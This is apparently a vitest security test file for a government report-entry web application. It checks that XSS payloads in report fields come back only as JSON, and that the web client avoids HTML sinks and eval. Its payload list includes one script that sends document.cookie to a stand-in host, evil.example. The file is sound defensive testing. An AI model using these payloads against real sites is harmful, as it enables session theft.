/**
 * Script injection: what an officer types (narrative, notes, cell values) is stored verbatim and only ever returned
 * as JSON strings, never as HTML; and the web client never hands text to the browser as HTML.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { FastifyInstance } from 'fastify';
import { beforeAll, describe, expect, it } from 'vitest';
import type { OpenDatabase } from '../../src/server/db/open-database.js';
import { listReports } from '../../src/server/repositories/report.repository.js';
import { createRound } from '../../src/server/services/round.service.js';
import { as, signIn, type TestSession } from '../../src/test-support/http.js';
import { onPGlite } from '../../src/test-support/both-engines.js';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  "'><svg/onload=alert(document.cookie)>",
  '</textarea><script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '<a href="javascript:alert(1)">bấm vào đây</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;', // already-escaped text must not be unescaped either
];

// on the embedded engine: what is stored and how it is answered does not depend on the engine
onPGlite('script injection through report content', (engine) => {
  let database: OpenDatabase;
  let app: FastifyInstance;
  let reporter: TestSession;
  let snv: TestSession;
  let reportId: string;
  let version = 1;

  beforeAll(async () => {
    ({ database, app } = await engine.world({
      app: { loginLimit: { max: 1000, timeWindowMs: 60_000 } },
      extend: async (world) => {
        const consolidator = {
          accountId: 'acc-snv.tonghop',
          username: 'snv.tonghop',
          displayName: 'snv',
          role: 'consolidator' as const,
          scope: new Set(['ninh-thuan', 'so-khcn']),
        };
        const round = await createRound(world, consolidator, {
          templateId: 'quang-tri-forms-2022',
          period: { year: 2023, kind: 'Q3' },
          agencyIds: ['so-khcn'],
        });
        reportId = (await listReports(world.db, { agencyIds: ['so-khcn'], roundId: round.id }))[0]!.id;
        return world;
      },
    }));
    reporter = await signIn(app, 'khcn.baocao');
    snv = await signIn(app, 'snv.tonghop');
  }, 60_000);

  /** The answer is JSON (never HTML, never sniffed as HTML); returns the parsed body. */
  function json(response: Awaited<ReturnType<FastifyInstance['inject']>>): Record<string, unknown> {
    expect(response.headers['content-type']).toMatch(/^application\/(problem\+)?json/u);
    expect(response.headers['content-type']).not.toMatch(/html/u);
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    return response.json() as Record<string, unknown>;
  }

  for (const payload of PAYLOADS) {
    it(`stores ${JSON.stringify(payload)} verbatim and returns it as a JSON string`, async () => {
      const values = await app.inject({
        method: 'PUT',
        url: `/api/reports/${reportId}/values`,
        headers: as(reporter),
        payload: {
          version,
          cells: [
            { rowId: '7/6.7', raw: payload },
            { rowId: '6/1.2', raw: '6.786,875', note: payload },
          ],
        },
      });
      expect(values.statusCode, values.body).toBe(200);
      version = json(values)['version'] as number;
      const narrative = await app.inject({
        method: 'PUT',
        url: `/api/reports/${reportId}/narrative`,
        headers: as(reporter),
        payload: { version, sections: [{ heading: payload, level: 1, body: `Trước ${payload} sau` }] },
      });
      expect(narrative.statusCode, narrative.body).toBe(200);
      version = json(narrative)['version'] as number;

      // read back by another account: exactly what was typed, as JSON strings
      const read = await app.inject({ method: 'GET', url: `/api/reports/${reportId}`, headers: as(snv) });
      const view = json(read) as { values: { rowId: string; raw: string; note: string | null }[]; narrative: { heading: string; body: string }[] };
      expect(view.values.find((v) => v.rowId === '7/6.7')!.raw).toBe(payload);
      expect(view.values.find((v) => v.rowId === '6/1.2')!.note).toContain(payload);
      expect(view.narrative).toEqual([{ heading: payload, level: 1, body: `Trước ${payload} sau` }]);
      // the text sits inside JSON string literals: the body is the JSON encoding of the strings, not markup
      expect(read.body).toContain(JSON.stringify(payload).slice(1, -1));

      // stored verbatim: neither escaped nor stripped on the way in
      const stored = await database.db.selectFrom('report_values').select(['row_id', 'raw', 'note']).where('report_id', '=', reportId).execute();
      expect(stored.find((v) => v.row_id === '7/6.7')!.raw).toBe(payload);
      expect(stored.find((v) => v.row_id === '6/1.2')!.note).toContain(payload);
      const sections = await database.db.selectFrom('narrative_sections').select(['heading', 'body']).where('report_id', '=', reportId).execute();
      expect(sections).toEqual([{ heading: payload, body: `Trước ${payload} sau` }]);
    });
  }

  it('answers a payload in the address with a problem+json document, not an HTML page', async () => {
    for (const payload of PAYLOADS) {
      for (const url of [
        `/api/reports/${encodeURIComponent(payload)}`,
        `/api/nothing/${encodeURIComponent(payload)}`,
        `/api/reports?roundId=${encodeURIComponent(payload)}`,
      ]) {
        const response = await app.inject({ method: 'GET', url, headers: as(snv) });
        expect(response.statusCode, url).toBeLessThan(500);
        json(response);
      }
    }
  });

  it("sends a Content-Security-Policy that forbids inline scripts with the pages (but the page's own start-up script, by its hash)", async () => {
    const page = await app.inject({ method: 'GET', url: '/' });
    const csp = String(page.headers['content-security-policy']);
    expect(csp).toMatch(/script-src 'self'/u);
    expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/u);
    // besides 'self', only hashes: the page's own start-up script, never inline scripts in general
    const scriptSrc = csp.split(';').find((d) => d.startsWith('script-src '))!;
    for (const source of scriptSrc.split(' ').slice(2)) expect(source).toMatch(/^'sha256-[A-Za-z0-9+/]+={0,2}'$/u);
  });
});

describe('the web client', () => {
  const root = fileURLToPath(new URL('../../web/', import.meta.url));
  const files = (dir: string): string[] =>
    readdirSync(dir).flatMap((name) => {
      const path = join(dir, name);
      return statSync(path).isDirectory() ? files(path) : /\.(tsx?|jsx?|html)$/u.test(name) ? [path] : [];
    });

  it('never hands text to the browser as HTML (no dangerouslySetInnerHTML, innerHTML, outerHTML, insertAdjacentHTML, document.write)', () => {
    const sources = [...files(join(root, 'src')), join(root, 'index.html')].filter((file) => !file.endsWith('.test.ts'));
    expect(sources.length).toBeGreaterThan(5);
    const sinks = /dangerouslySetInnerHTML|\.innerHTML\b|\.outerHTML\b|insertAdjacentHTML|document\.write(ln)?\s*\(|createContextualFragment|srcdoc/u;
    // the one exception: the grid's table (grid-rows.ts) is drawn from the markup the server draws its page's table
    // with (src/shared/entry/grid-markup.ts, every text escaped there: grid-markup.test.ts), and from nothing else:
    // each of its sinks takes a call of one of that module's functions, on the same line
    const GRID = join('src', 'features', 'entry', 'grid-rows.ts');
    const MARKUP =
      /(?:\.innerHTML = |insertAdjacentHTML\('beforeend', )(?:tableMarkup|bodyMarkup|rowMarkup|labelMarkup|valueTailMarkup|emptyRowMarkup)\(/u;
    const gridSinks = readFileSync(join(root, GRID), 'utf8')
      .split('\n')
      .filter((line) => sinks.test(line));
    expect(gridSinks.length).toBeGreaterThan(0);
    expect(gridSinks.filter((line) => !MARKUP.test(line))).toEqual([]);
    expect(readFileSync(join(root, GRID), 'utf8')).toMatch(/from '@shared\/entry\/grid-markup\.js'/u);
    const offenders = sources
      .filter((file) => relative(root, file) !== GRID && sinks.test(readFileSync(file, 'utf8')))
      .map((file) => relative(root, file));
    expect(offenders).toEqual([]);
  });

  it('never builds links or scripts from text (no javascript: URLs, eval or new Function)', () => {
    const offenders = files(join(root, 'src'))
      .filter((file) => /javascript:|\beval\s*\(|new Function\s*\(/u.test(readFileSync(file, 'utf8')))
      .map((file) => relative(root, file));
    expect(offenders).toEqual([]);
  });
});
